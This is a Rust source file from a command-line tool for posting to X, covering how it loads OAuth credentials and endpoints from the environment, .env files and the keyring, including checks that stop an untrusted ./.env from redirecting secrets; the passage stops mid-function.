//! Configuration: credentials and endpoints from the environment and `.env`.
//!
//! [`Env`] is the one place where xpost reads environment variables: the process environment
//! first, then `.env` in the working directory (or the file given with `--env-file`), so a
//! `.env` may set what the environment may, `XPOST_HOME` included, but for a command to run:
//! `BROWSER` is taken from the environment or an `--env-file` given by name, never from a
//! `./.env` that merely sits in the directory xpost runs in (a cloned repository's `.env`
//! would otherwise run a program of its choosing at the first consent); and such a `./.env`
//! names another server only with the credentials for it, and sets where post URLs point
//! (`X_WEB_BASE`) or logins are kept (`XPOST_HOME`) only with the server they are for
//! ([`check_sources`]).
//! After them comes the app the user set up with `xpost auth setup` ([`Stored`], kept in the
//! user's configuration directory and the keyring): it fills in only what the environment and
//! the file leave unset, and only as a whole — not at all when they name another server (a
//! `./.env` naming its own server never gets the user's stored secrets), its OAuth 2.0 app only
//! when they set no client id or secret, its four keys only when they set none ([`stored_names`]).
//! [`Config::from_lookup`] is pure: it takes a lookup function, checks every value, and
//! reports all missing or malformed names in one error.

use std::collections::HashMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use url::Url;

use crate::error::{Cause, Error, Result};
use crate::oauth1::OAuth1Keys;
use crate::secret::Secret;

/// The consent page X shows, unless `X_AUTHORIZE_URL` says otherwise.
pub const DEFAULT_AUTHORIZE_URL: &str = "https://x.com/i/oauth2/authorize";
/// The base of every `/2/...` endpoint, unless `X_API_BASE` says otherwise.
pub const DEFAULT_API_BASE: &str = "https://api.x.com";
/// The callback registered in the developer portal, unless `X_REDIRECT_URI` says otherwise.
pub const DEFAULT_REDIRECT_URI: &str = "http://127.0.0.1:5000/oauth/callback";
/// Where post URLs point.
pub const DEFAULT_WEB_BASE: &str = "https://x.com";

const PORTAL: &str = "developer.x.com > Projects & Apps > your app";

/// Everything xpost needs to talk to X, checked.
#[derive(Debug, Clone)]
pub struct Config {
    /// Base URL of the `/2/...` API, token endpoint included.
    pub api_base: Url,
    /// X's consent page.
    pub authorize_url: Url,
    /// How posts are authorized: `--auth`, `XPOST_AUTH`, else what is configured.
    pub method: Method,
    /// The OAuth 2.0 client id of the app; `None` when only OAuth 1.0a keys are configured.
    pub client_id: Option<String>,
    /// The OAuth 2.0 client secret; `None` makes xpost a public client.
    pub client_secret: Option<Secret>,
    /// The loopback callback registered for the app.
    pub redirect_uri: Url,
    /// OAuth 1.0a keys for media upload; `None` uploads with the OAuth 2.0 token.
    pub oauth1: Option<OAuth1Keys>,
    /// Base of the post URLs printed (`https://x.com`; `X_WEB_BASE` for a test double).
    pub web_base: String,
    /// Things worth telling the user that do not stop the run.
    pub warnings: Vec<String>,
}

/// The plan of the app's project at X, which decides what a post may carry: `--plan`, else
/// `X_PLAN`, else self-serve ([`Env::plan`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, clap::ValueEnum)]
pub enum Plan {
    /// X's self-serve plans (pay-per-use, Basic, Pro): no quotes, at most one cashtag a post.
    #[default]
    #[value(name = "self-serve")]
    SelfServe,
    /// An Enterprise plan: quotes and cashtags are X's to judge.
    #[value(name = "enterprise")]
    Enterprise,
}

impl Plan {
    /// The value of `--plan` or `X_PLAN`: `self-serve` (or `pay-per-use`, `basic`, `pro`) or
    /// `enterprise`, in any case.
    pub fn parse(text: &str) -> std::result::Result<Plan, String> {
        match text.trim().to_ascii_lowercase().as_str() {
            "self-serve" | "selfserve" | "pay-per-use" | "basic" | "pro" => Ok(Plan::SelfServe),
            "enterprise" => Ok(Plan::Enterprise),
            _ => Err(format!("{text:?} is not self-serve or enterprise")),
        }
    }
}

/// How xpost authorizes its requests to X.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Method {
    /// OAuth 1.0a user context: the four keys from the developer portal. No consent, no
    /// login, nothing stored.
    #[value(name = "oauth1")]
    OAuth1,
    /// OAuth 2.0 with PKCE: a consent in a browser once, then a stored, refreshed login.
    #[value(name = "oauth2")]
    OAuth2,
}

impl Method {
    /// The name `--auth` and `XPOST_AUTH` take.
    pub fn name(self) -> &'static str {
        match self {
            Method::OAuth1 => "oauth1",
            Method::OAuth2 => "oauth2",
        }
    }

    /// The value of `--auth` or `XPOST_AUTH` (`oauth1`, `oauth2`; any case, `1.0a` and
    /// `2.0` spellings too).
    pub fn parse(text: &str) -> std::result::Result<Method, String> {
        match text.trim().to_ascii_lowercase().as_str() {
            "oauth1" | "oauth1a" | "oauth1.0a" | "oauth-1.0a" => Ok(Method::OAuth1),
            "oauth2" | "oauth2.0" | "oauth-2.0" => Ok(Method::OAuth2),
            _ => Err(format!("{text:?} is not oauth1 or oauth2")),
        }
    }
}

impl std::fmt::Display for Method {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Method::OAuth1 => "OAuth 1.0a",
            Method::OAuth2 => "OAuth 2.0",
        })
    }
}

/// The method a run uses: the one asked for (`--auth`, else `XPOST_AUTH`), else OAuth 2.0 when
/// `X_CLIENT_ID` is set, else OAuth 1.0a when all four keys are. It follows the configuration,
/// never the situation (a missing login does not switch a run to OAuth 1.0a). `None` when
/// nothing is configured.
pub fn choose_method(asked: Option<Method>, client_id: bool, oauth1_keys: bool) -> Option<Method> {
    match asked {
        Some(method) => Some(method),
        None if client_id => Some(Method::OAuth2),
        None if oauth1_keys => Some(Method::OAuth1),
        None => None,
    }
}

/// Whether the `CI` variable says the run is in continuous integration: set to anything but
/// empty, `0` or `false` (as GitHub Actions, GitLab CI and most others set `CI=true`).
pub fn is_ci(value: Option<&str>) -> bool {
    value.is_some_and(|v| {
        let v = v.trim();
        !(v.is_empty() || v == "0" || v.eq_ignore_ascii_case("false"))
    })
}

/// An on/off variable: `1`, `true`, `yes`, `on` or `0`, `false`, `no`, `off` (any case); unset
/// or empty is off. Anything else is returned, for an error: a switch that weakens how secrets
/// are kept is not guessed at.
pub fn switch(value: Option<&str>) -> std::result::Result<bool, String> {
    let Some(value) = value.map(str::trim).filter(|v| !v.is_empty()) else {
        return Ok(false);
    };
    match value.to_ascii_lowercase().as_str() {
        "1" | "true" | "yes" | "on" => Ok(true),
        "0" | "false" | "no" | "off" => Ok(false),
        _ => Err(value.to_owned()),
    }
}

/// One configuration name: what it is and where to find it.
struct Name {
    var: &'static str,
    what: &'static str,
}

const CLIENT_ID: Name = Name {
    var: "X_CLIENT_ID",
    what: "OAuth 2.0 Client ID: Keys and tokens > OAuth 2.0 Client ID and Client Secret",
};
const OAUTH1: [Name; 4] = [
    Name {
        var: "X_API_KEY",
        what: "API Key: Keys and tokens > Consumer Keys",
    },
    Name {
        var: "X_API_SECRET",
        what: "API Key Secret: Keys and tokens > Consumer Keys",
    },
    Name {
        var: "X_ACCESS_TOKEN",
        what: "Access Token: Keys and tokens > Authentication Tokens (generate with Read and Write)",
    },
    Name {
        var: "X_ACCESS_TOKEN_SECRET",
        what: "Access Token Secret: Keys and tokens > Authentication Tokens",
    },
];

/// Variables that name a command to run, or take the login's tokens out of the keyring:
/// taken from the environment or a file given with `--env-file`, never from a `./.env` found
/// in the working directory (a cloned repository's `.env` could otherwise have the next login's
/// tokens written to a file, in a state directory of its choosing).
const COMMANDS: [&str; 2] = ["BROWSER", "XPOST_INSECURE_STORAGE"];

/// Removes from an implicit `./.env`'s variables those it may not set ([`COMMANDS`]);
/// returns their names.
fn only_named_files(vars: &mut HashMap<String, String>) -> Vec<&'static str> {
    COMMANDS
        .into_iter()
        .filter(|name| vars.remove(*name).is_some())
        .collect()
}

/// The variables xpost reads, from the process environment and then `.env`. Nothing else in
/// xpost reads the environment.
pub struct Env {
    lookup: Box<Lookup>,
    /// The file variables were read from, and which of them came from it (the environment
    /// won for the others).
    file: Option<(PathBuf, HashMap<String, String>)>,
    /// Whether that file is the `./.env` that merely sits in the working directory, rather
    /// than one given with `--env-file`.
    implicit: bool,
    /// The app set up with `xpost auth setup`, and the names it may fill in ([`stored_names`]).
    stored: Option<(Stored, Vec<&'static str>)>,
}

/// An app kept by `xpost auth setup`: its settings from the user's configuration file, its
/// secrets (read only when asked for) from the keyring or, announced, from that file.
pub struct Stored {
    /// The app's name (`--app`, `XPOST_APP`).
    pub name: String,
    /// The configuration file.
    pub path: PathBuf,
    /// Its settings: `X_CLIENT_ID`, `X_REDIRECT_URI`, `X_API_KEY` and the endpoints when they
    /// are not X's.
    pub settings: HashMap<String, String>,
    /// The names of its secrets.
    pub secret_names: Vec<String>,
    /// Where its secrets are.
    pub secrets_at: Source,
    /// Reads its secrets (the keyring is asked once, at the first secret asked for).
    pub read_secrets: Box<SecretsReader>,
    /// What the reading gave.
    pub read: OnceLock<std::result::Result<HashMap<String, String>, String>>,
}

/// A function that reads a stored app's secrets; an error says why they could not be read.
pub type SecretsReader =
    dyn Fn() -> std::result::Result<HashMap<String, String>, String> + Send + Sync;

/// The variables `xpost auth setup` keeps, settings first, then the secrets.
pub const SETUP_SETTINGS: [&str; 6] = [
    "X_CLIENT_ID",
    "X_REDIRECT_URI",
    "X_API_KEY",
    "X_API_BASE",
    "X_AUTHORIZE_URL",
    "X_WEB_BASE",
];

/// The names a stored app may fill in, given what the environment and the file set
/// (`higher`), and the stored app's own settings (`stored`). Pure.
///
/// - None at all when `higher` names a server (`X_API_BASE`, `X_AUTHORIZE_URL`) other than the
///   app's: its secrets were issued by its own server, and go to no other.
/// - Its OAuth 2.0 app (client id, secret, callback) only when `higher` sets neither client id
///   nor secret: a secret goes with its own client id.
/// - Its four OAuth 1.0a keys only when `higher` sets none of them.
pub fn stored_names(
    higher: impl Fn(&str) -> Option<String>,
    stored: impl Fn(&str) -> Option<String>,
) -> Vec<&'static str> {
    let same = |a: &str, b: &str| a.trim().trim_end_matches('/') == b.trim().trim_end_matches('/');
    for (name, default) in [
        ("X_API_BASE", DEFAULT_API_BASE),
        ("X_AUTHORIZE_URL", DEFAULT_AUTHORIZE_URL),
    ] {
        let theirs = stored(name).unwrap_or_else(|| default.to_owned());
        if let Some(ours) = higher(name)
            && !same(&ours, &theirs)
        {
            return Vec::new();
        }
    }
    let mut names = vec!["X_API_BASE", "X_AUTHORIZE_URL", "X_WEB_BASE"];
    if ["X_CLIENT_ID", "X_CLIENT_SECRET"]
        .iter()
        .all(|n| higher(n).is_none())
    {
        names.extend(["X_CLIENT_ID", "X_CLIENT_SECRET", "X_REDIRECT_URI"]);
    }
    if OAUTH1.iter().all(|n| higher(n.var).is_none()) {
        names.extend(OAUTH1.iter().map(|n| n.var));
    }
    names
}

/// Where a variable's value came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    /// Not set: xpost's default (X itself).
    Default,
    /// The process environment.
    Environment,
    /// The file given with `--env-file`.
    File(PathBuf),
    /// The `./.env` that sits in the working directory: whoever made the directory chose it.
    DotEnv,
    /// The user's configuration file, written by `xpost auth setup`.
    Setup(PathBuf),
    /// The system keyring, where `xpost auth setup` kept it (the entry).
    Keyring(String),
}

impl Source {
    /// Whether a value from here and one from `other` were kept together: the user's
    /// configuration and the keyring entry it names are one set-up.
    pub fn same_place(&self, other: &Source) -> bool {
        let stored = |s: &Source| matches!(s, Source::Setup(_) | Source::Keyring(_));
        self == other || (stored(self) && stored(other))
    }
}

impl std::fmt::Display for Source {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Source::Default => f.write_str("xpost's default"),
            Source::Environment => f.write_str("the environment"),
            Source::File(path) => f.write_str(&crate::sanitize::path(path)),
            Source::DotEnv => f.write_str("./.env"),
            Source::Setup(path) => {
                write!(f, "your configuration ({})", crate::sanitize::path(path))
            }
            Source::Keyring(entry) => write!(f, "the system keyring ({entry})"),
        }
    }
}

/// A function from a variable's name to its value.
type Lookup = dyn Fn(&str) -> Option<String> + Send + Sync;

impl Env {
    /// The process environment, then `.env` (or `env_file`, which must exist). A variable set
    /// in the environment wins over the file, unless it is empty.
    pub fn load(env_file: Option<&Path>) -> Result<Env> {
        let path = env_file.map_or_else(|| PathBuf::from(".env"), Path::to_path_buf);
        let mut vars = read_env_file(env_file)?;
        if env_file.is_none() {
            for name in only_named_files(&mut vars) {
                crate::output::warn(format!(
                    "./.env sets {name}, which xpost takes only from the environment or a file given with --env-file; it is ignored"
                ));
            }
        }
        let from_file = vars.clone();
        // An empty variable counts as unset, so it does not hide a value in the file.
        let mut env = Env::from_lookup(move |name| {
            std::env::var(name)
                .ok()
                .filter(|v| !v.trim().is_empty())
                .or_else(|| from_file.get(name).cloned())
        });
        env.file = Some((path, vars));
        env.implicit = env_file.is_none();
        Ok(env)
    }

    /// Adds the app set up with `xpost auth setup`, after the environment and the file, for
    /// the names [`stored_names`] lets it fill in.
    pub fn with_stored(mut self, stored: Stored) -> Env {
        let names = stored_names(
            |name| self.get(name),
            |name| stored.settings.get(name).cloned(),
        );
        self.stored = Some((stored, names));
        self
    }

    /// The app set up with `xpost auth setup` this run uses, if any.
    pub fn stored(&self) -> Option<&Stored> {
        self.stored.as_ref().map(|(stored, _)| stored)
    }

    /// What the stored app gives for `name`, when it may give it.
    fn stored_value(&self, name: &str) -> Option<(String, Source)> {
        let (stored, names) = self.stored.as_ref()?;
        if !names.contains(&name) {
            return None;
        }
        if let Some(value) = stored.settings.get(name) {
            return Some((value.clone(), Source::Setup(stored.path.clone())));
        }
        if !stored.secret_names.iter().any(|n| n == name) {
            return None;
        }
        let secrets = stored
            .read
            .get_or_init(|| (stored.read_secrets)())
            .as_ref()
            .ok()?;
        let value = secrets.get(name)?.clone();
        Some((value, stored.secrets_at.clone()))
    }

    /// Reads the stored app's secrets now, if this run may use any: a keyring that does not
    /// answer is an error before anything is sent.
    fn check_stored(&self) -> Result<()> {
        let Some((stored, names)) = &self.stored else {
            return Ok(());
        };
        if !stored
            .secret_names
            .iter()
            .any(|n| names.contains(&n.as_str()) && (self.lookup)(n).is_none())
        {
            return Ok(());
        }
        match stored.read.get_or_init(|| (stored.read_secrets)()) {
            Ok(_) => Ok(()),
            Err(why) => Err(Error::config(format!(
                "cannot read the secrets of the app {:?} set up with xpost auth setup from {}: {why}",
                crate::sanitize::outside(&stored.name),
                stored.secrets_at
            ))
            .hint("unlock the keyring and run again; or set the app up again with xpost auth setup")),
        }
    }

    /// The app asked for: `flag` (`--app`), else `XPOST_APP`; empty is none.
    pub fn app(&self, flag: Option<&str>) -> Option<String> {
        flag.map(str::trim)
            .filter(|f| !f.is_empty())
            .map(str::to_owned)
            .or_else(|| self.get("XPOST_APP").map(|a| a.trim().to_owned()))
    }

    /// Where the user's configuration is kept: `$XDG_CONFIG_HOME/xpost` (when absolute), else
    /// `~/Library/Application Support/xpost` on macOS, `%APPDATA%\xpost` on Windows,
    /// `~/.config/xpost` elsewhere. None of these is taken from a `./.env` that merely sits in
    /// the working directory: it would have xpost read an app of its choosing as the user's.
    pub fn config_dir(&self) -> Result<PathBuf> {
        let get = |name: &str| match self.source(name) {
            Source::DotEnv => std::env::var(name).ok().filter(|v| !v.trim().is_empty()),
            _ => self.get(name),
        };
        if let Some(dir) = get("XDG_CONFIG_HOME").filter(|d| Path::new(d).is_absolute()) {
            return Ok(Path::new(&dir).join("xpost"));
        }
        if cfg!(windows)
            && let Some(dir) = get("APPDATA").filter(|d| Path::new(d).is_absolute())
        {
            return Ok(Path::new(&dir).join("xpost"));
        }
        if let Some(home) = get("HOME").filter(|d| Path::new(d).is_absolute()) {
            let under = if cfg!(target_os = "macos") {
                "Library/Application Support/xpost"
            } else {
                ".config/xpost"
            };
            return Ok(Path::new(&home).join(under));
        }
        Err(
            Error::config("cannot tell where your configuration is: HOME is not set")
                .hint("set XDG_CONFIG_HOME to a directory of your own"),
        )
    }

    /// Variables from a lookup function (for tests, and for the sandbox's own settings).
    pub fn from_lookup(lookup: impl Fn(&str) -> Option<String> + Send + Sync + 'static) -> Env {
        Env {
            lookup: Box::new(lookup),
            file: None,
            implicit: false,
            stored: None,
        }
    }

    /// Where the value of `name` came from.
    pub fn source(&self, name: &str) -> Source {
        if self.get(name).is_none() {
            return Source::Default;
        }
        if (self.lookup)(name).is_none_or(|v| v.trim().is_empty())
            && let Some((_, source)) = self.stored_value(name)
        {
            return source;
        }
        match &self.file {
            Some((path, vars))
                if vars.get(name).is_some_and(|v| !v.trim().is_empty())
                    && std::env::var(name).map_or(true, |v| v.trim().is_empty()) =>
            {
                if self.implicit {
                    Source::DotEnv
                } else {
                    Source::File(path.clone())
                }
            }
            _ => Source::Environment,
        }
    }

    /// The value of `name`; empty counts as unset.
    pub fn get(&self, name: &str) -> Option<String> {
        (self.lookup)(name)
            .filter(|v| !v.trim().is_empty())
            .or_else(|| self.stored_value(name).map(|(value, _)| value))
    }

    /// The checked configuration these variables make.
    pub fn config(&self) -> Result<Config> {
        self.config_for(None)
    }

    /// The checked configuration for the method asked for on the command line (`--auth`),
    /// which wins over `XPOST_AUTH`.
    pub fn config_for(&self, asked: Option<Method>) -> Result<Config> {
        self.check_stored()?;
        let config = Config::resolve(|name| self.get(name), asked)?;
        check_sources(|name| self.source(name), &config)?;
        Ok(config)
    }

    /// Whether this run is in CI (the `CI` variable, see [`is_ci`]): then nobody can give a
    /// consent.
    pub fn ci(&self) -> bool {
        is_ci((self.lookup)("CI").as_deref())
    }

    /// Whether the login's tokens are to be kept in its file rather than the system's keyring:
    /// `flag` (`--insecure-storage`), else `XPOST_INSECURE_STORAGE` ([`switch`]).
    pub fn insecure_storage(&self, flag: bool) -> Result<bool> {
        let name = "XPOST_INSECURE_STORAGE";
        let value = switch(self.get(name).as_deref()).map_err(|text| {
            Error::config(format!(
                "{name} is {:?}, which is neither on (1, true, yes) nor off (0, false, no)",
                crate::sanitize::outside(&text)
            ))
            .hint(format!(
                "set {name}=1 to keep the login's tokens in its file, or unset it"
            ))
        })?;
        Ok(flag || value)
    }

    /// Where logins are kept: `XPOST_HOME`, else `$XDG_STATE_HOME/xpost` (when absolute), else
    /// `~/.local/state/xpost`.
    pub fn state_dir(&self) -> Result<PathBuf> {
        if let Some(home) = self.get("XPOST_HOME") {
            check_dotenv_setting("XPOST_HOME", |name| self.source(name))?;
            return Ok(PathBuf::from(home));
        }
        if let Some(state) = self
            .get("XDG_STATE_HOME")
            .filter(|s| Path::new(s).is_absolute())
        {
            return Ok(Path::new(&state).join("xpost"));
        }
        if let Some(home) = self.get("HOME") {
            return Ok(Path::new(&home).join(".local/state/xpost"));
        }
        Err(
            Error::config("cannot tell where to keep the login: HOME is not set")
                .hint("set XPOST_HOME to a directory of your own"),
        )
    }

    /// The app's plan: `flag` (`--plan`), else `X_PLAN` (from anywhere, a `./.env` included:
    /// it decides only what xpost refuses before X would; X enforces its plans itself), else
    /// self-serve.
    pub fn plan(&self, flag: Option<Plan>) -> Result<Plan> {
        if let Some(plan) = flag {
            return Ok(plan);
        }
        let Some(value) = self.get("X_PLAN") else {
            return Ok(Plan::default());
        };
        Plan::parse(&value).map_err(|_| {
            Error::config(format!(
                "X_PLAN is {:?}, which is neither self-serve nor enterprise",
                crate::sanitize::outside(&value)
            ))
            .hint(
                "set X_PLAN=self-serve (pay-per-use, Basic, Pro) or X_PLAN=enterprise, or unset it",
            )
        })
    }

    /// The account asked for: `flag` (`--account`), else `XPOST_ACCOUNT`; empty is none.
    pub fn account(&self, flag: Option<&str>) -> Option<String> {
        flag.map(str::trim)
            .filter(|f| !f.is_empty())
            .map(str::to_owned)
            .or_else(|| self.get("XPOST_ACCOUNT").map(|a| a.trim().to_owned()))
    }

    /// How a browser is opened here.
    pub fn browser(&self) -> Browser {
        Browser {
            command: self.get("BROWSER"),
            desktop: cfg!(any(target_os = "macos", target_os = "windows"))
                || ["DISPLAY", "WAYLAND_DISPLAY"]
                    .iter()
                    .any(|name| self.get(name).is_some()),
        }
    }
}

/// How a browser is opened here.
#[derive(Debug, Clone, Default)]
pub struct Browser {
    /// `$BROWSER`: a command line to run with the URL.
    pub command: Option<String>,
    /// Whether a desktop session is there for the system's default browser.
    pub desktop: bool,
}

impl Browser {
    /// Whether a browser can plausibly be opened.
    pub fn available(&self) -> bool {
        self.command.is_some() || self.desktop
    }
}

impl Config {
    /// Builds and checks the configuration from a lookup of variable names.
    ///
    /// Empty values count as unset. Every problem is collected, so one run shows them all.
    pub fn from_lookup(lookup: impl Fn(&str) -> Option<String>) -> Result<Config> {
        Config::resolve(lookup, None)
    }

    /// [`Config::from_lookup`] for the method asked for on the command line (`--auth`; `None`
    /// leaves it to `XPOST_AUTH`, then to what is configured: see [`choose_method`]).
    pub fn resolve(
        lookup: impl Fn(&str) -> Option<String>,
        asked: Option<Method>,
    ) -> Result<Config> {
        let get = |name: &str| {
            lookup(name)
                .map(|v| v.trim().to_owned())
                .filter(|v| !v.is_empty())
        };
        let mut missing = Vec::new();
        let mut malformed = Vec::new();
        let mut warnings = Vec::new();

        let client_id = get(CLIENT_ID.var);
        if let Some(id) = &client_id
            && id.chars().any(|c| c.is_whitespace() || c.is_control())
        {
            malformed.push(format!(
                "{}: contains spaces or control characters",
                CLIENT_ID.var
            ));
        }
        let client_secret = get("X_CLIENT_SECRET").map(Secret::new);

        let url = |var: &str, default: &str, malformed: &mut Vec<String>| {
            http_url(
                var,
                get(var).unwrap_or_else(|| default.to_owned()),
                malformed,
            )
        };
        let api_base = url("X_API_BASE", DEFAULT_API_BASE, &mut malformed);
        let authorize_url = url("X_AUTHORIZE_URL", DEFAULT_AUTHORIZE_URL, &mut malformed);
        let redirect_uri = url("X_REDIRECT_URI", DEFAULT_REDIRECT_URI, &mut malformed);
        let web_base = url("X_WEB_BASE", DEFAULT_WEB_BASE, &mut malformed);
        if let Some(uri) = &redirect_uri
            && let Err(why) = check_loopback_redirect(uri)
        {
            malformed.push(format!("X_REDIRECT_URI: {why}"));
        }

        let oauth1_values: Vec<Option<String>> = OAUTH1.iter().map(|n| get(n.var)).collect();
        let set = oauth1_values.iter().filter(|v| v.is_some()).count();
        let unset_keys = || unset(&oauth1_values);

        let asked = asked.or_else(|| method_variable(get("XPOST_AUTH"), &mut malformed));
        let method = choose_method(asked, client_id.is_some(), set == OAUTH1.len());
        match method {
            Some(Method::OAuth2) if client_id.is_none() => missing.push(&CLIENT_ID),
            Some(Method::OAuth2) => warnings.extend(incomplete_keys(&oauth1_values)),
            Some(Method::OAuth1) => missing.extend(unset_keys()),
            // Neither way is configured: name both, with whatever half of the keys is missing.
            None => return Err(neither_error(&unset_keys(), &malformed)),
        }
        let oauth1 = oauth1_keys(&oauth1_values);

        if !missing.is_empty() || !malformed.is_empty() {
            return Err(config_error(&missing, &malformed, method));
        }
        let (Some(method), Some(api_base), Some(authorize_url), Some(redirect_uri), Some(web_base)) =
            (method, api_base, authorize_url, redirect_uri, web_base)
        else {
            return Err(Error::internal(
                "configuration check let an unset value through",
            ));
        };
        Ok(Config {
            api_base,
            authorize_url,
            method,
            client_id,
            client_secret,
            redirect_uri,
            oauth1,
            web_base: web_base.as_str().trim_end_matches('/').to_owned(),
            warnings,
        })
    }

    /// The OAuth 2.0 client id, or `""` when none is configured (then no OAuth 2.0 login is
    /// ever this app's).
    pub fn client_id(&self) -> &str {
        self.client_id.as_deref().unwrap_or_default()
    }

    /// The URL of an endpoint under the API base, e.g. `endpoint("/2/tweets")`.
    pub fn endpoint(&self, path: &str) -> Url {
        join(&self.api_base, path)
    }
}

/// The secrets xpost sends to the API base: they may only go to a server named in the same
/// place as they are.
pub const SECRETS: [&str; 4] = [
    "X_CLIENT_SECRET",
    "X_API_SECRET",
    "X_ACCESS_TOKEN",
    "X_ACCESS_TOKEN_SECRET",
];

/// What a `./.env` found in the working directory sets only together with the server it is
/// for (`X_API_BASE` from the same file): where post URLs point, which would let it print a
/// URL that looks like X's for a post X never saw, and where logins are kept, which would let
/// it keep tokens in the directory it came with.
const ONLY_WITH_A_DOTENV_SERVER: [&str; 2] = ["X_WEB_BASE", "XPOST_HOME"];

/// Refuses `name` from a `./.env` that merely sits in the working directory unless that file
/// also names the server (`X_API_BASE`): see [`ONLY_WITH_A_DOTENV_SERVER`]. Pure.
pub fn check_dotenv_setting(name: &str, source: impl Fn(&str) -> Source) -> Result<()> {
    if source(name) != Source::DotEnv || source("X_API_BASE") == Source::DotEnv {
        return Ok(());
    }
    Err(Error::config(format!(
        "./.env in the working directory sets {name}, which xpost takes from a ./.env only together with X_API_BASE (the server it is for)"
    ))
    .hint(format!(
        "if you meant it, set {name} in the environment or give the file with --env-file; otherwise remove it from ./.env (a directory you did not make may hold a .env to mislead xpost)"
    )))
}

/// Refuses endpoints and secrets that come from different places, so that a `.env` in an
/// untrusted directory cannot send the user's consent or secrets to a server of its own:
/// - the consent page and the API base are set together, in one place, or both left to X
///   (a code X gives at its consent page goes to the token endpoint under the API base);
/// - when the API base is not X's, every secret comes from where the API base came from, and
///   so does the client id when a `./.env` in the working directory names the server (with
///   the person's own client id, a public client, which has no secret to refuse, would have
///   its consent and posts go to that `.env`'s server);
/// - a `./.env` in the working directory sets [`ONLY_WITH_A_DOTENV_SERVER`] only together
///   with the API base.
///
/// Pure: `source` says where each variable came from.
pub fn check_sources(source: impl Fn(&str) -> Source, config: &Config) -> Result<()> {
    let at_x = |url: &Url, default: &str| url.as_str().trim_end_matches('/') == default;
    let api = if at_x(&config.api_base, DEFAULT_API_BASE) {
        Source::Default
    } else {
        source("X_API_BASE")
    };
    let consent = if at_x(&config.authorize_url, DEFAULT_AUTHORIZE_URL) {
        Source::Default
    } else {
        source("X_AUTHORIZE_URL")
    };
    let fail = |message: String, hint: String| Err(Error::config(message).hint(hint));
    for name in ONLY_WITH_A_DOTENV_SERVER {
        check_dotenv_setting(name, &source)?;
    }
    if !api.same_place(&consent) {
        let (api_is, consent_is) = (
            describe("X_API_BASE", &api, &config.api_base),
            describe("X_AUTHORIZE_URL", &consent, &config.authorize_url),
        );
        return fail(
            format!(
                "{api_is}, but {consent_is}: a consent given at one would have its code, and the client secret, sent to the other"
            ),
            "set X_API_BASE and X_AUTHORIZE_URL together, in the same place, to use another service; otherwise remove the one that is set (look in ./.env)".into(),
        );
    }
    if api == Source::Default {
        return Ok(());
    }
    let client_id = (api == Source::DotEnv).then_some("X_CLIENT_ID");
    for secret in SECRETS.into_iter().chain(client_id) {
        let from = source(secret);
        if from != Source::Default && !from.same_place(&api) {
            return fail(
                format!(
                    "X_API_BASE ({}) comes from {api}, but {secret} comes from {from}: xpost sends its client id and secrets only to a server named in the same place",
                    config.api_base
                ),
                "put the server and its credentials together (all in the environment, or all in one file given with --env-file); if you did not mean to use another server, remove X_API_BASE (look in ./.env)".into(),
            );
        }
    }
    Ok(())
}

fn describe(name: &str, source: &Source, url: &Url) -> String {
    match source {
        Source::Default => format!("{name} is X's own ({url})"),
        other => format!("{name} is {url}, from {other}"),
    }
}

/// Joins `path` onto `base`, keeping any path prefix `base` has.
pub fn join(base: &Url, path: &str) -> Url {
    let mut url = base.clone();
    let prefix = base.path().trim_end_matches('/');
    url.set_path(&format!("{prefix}{path}"));
    url.set_query(None);
    url
}

/// The listener can only catch a redirect to plain HTTP on this machine's loopback.
fn check_loopback_redirect(uri: &Url) -> std::result::Result<(), String> {
    if uri.scheme() != "http" {
        return Err(format!(
            "{uri} must start with http:// (xpost catches the redirect on this machine)"
        ));
    }
    let loopback = match uri.host() {
        Some(url::Host::Domain(d)) => d.eq_ignore_ascii_case("localhost"),
        Some(url::Host::Ipv4(ip)) => ip.is_loopback(),
        Some(url::Host::Ipv6(ip)) => ip.is_loopback(),
        None => false,
    };
    if !loopback {
        return Err(format!(
            "{uri} must point at this machine (127.0.0.1, [::1] or localhost)"
        ));
    }
    if uri.port().is_none() {
        return Err(format!(
            "{uri} needs an explicit port, e.g. http://127.0.0.1:5000/oauth/callback"
        ));
    }
    Ok(())
}

/// The URL `text` that variable `var` gives, if it is an http(s) URL with a host; else why
/// not goes to `malformed`.
fn http_url(var: &str, text: String, malformed: &mut Vec<String>) -> Option<Url> {
    match Url::parse(&text) {
        Ok(url) if matches!(url.scheme(), "http" | "https") && url.host().is_some() => Some(url),
        Ok(_) => {
            malformed.push(format!("{var}: {text:?} is not an http(s) URL"));
            None
        }
        Err(err) => {
            malformed.push(format!("{var}: {text:?} is not a URL ({err})"));
            None
        }
    }
}

/// The OAuth 1.0a keys of `values` (one per name of [`OAUTH1`]) left unset.
fn unset(values: &[Option<String>]) -> Vec<&'static Name> {
    OAUTH1
        .iter()
        .zip(values)
        .filter_map(|(name, value)| value.is_none().then_some(name))
        .collect()
}

/// The method `XPOST_AUTH` asks for (`text`), if it names one; else why not goes to
/// `malformed`.
fn method_variable(text: Option<String>, malformed: &mut Vec<String>) -> Option<Method> {
    match Method::parse(&text?) {
        Ok(method) => Some(method),
        Err(why) => {
            malformed.push(format!("XPOST_AUTH: {why}"));
            None
        }
    }
}

/// The warning that some of the OAuth 1.0a keys of `values` are set, but not all: media then
/// goes with the OAuth 2.0 token.
fn incomplete_keys(values: &[Option<String>]) -> Option<String> {
    let unset: Vec<&str> = unset(values).iter().map(|n| n.var).collect();
    (!unset.is_empty() && unset.len() < OAUTH1.len()).then(|| {
        format!(
            "OAuth 1.0a keys are incomplete ({} not set): media will be uploaded with the OAuth 2.0 token",
            unset.join(", ")
        )
    })
}

/// The OAuth 1.0a keys, when `values` (one per name of [`OAUTH1`]) sets all four.
fn oauth1_keys(values: &[Option<String>]) -> Option<OAuth1Keys> {
    let [
        Some(api_key),
        Some(api_secret),
        Some(access_token),
        Some(access_token_secret),
    ] = values
    else {
        return None;
    };
    Some(OAuth1Keys {
        api_key: api_key.clone(),
        api_secret: Secret::new(api_secret.clone()),
        access_token: Secret::new(access_token.clone()),
        access_token_secret: Secret::new(access_token_secret.clone()),
    })
}

fn config_error(missing: &[&Name], malformed: &[String], method: Option<Method>) -> Error {
    let mut message = match method {
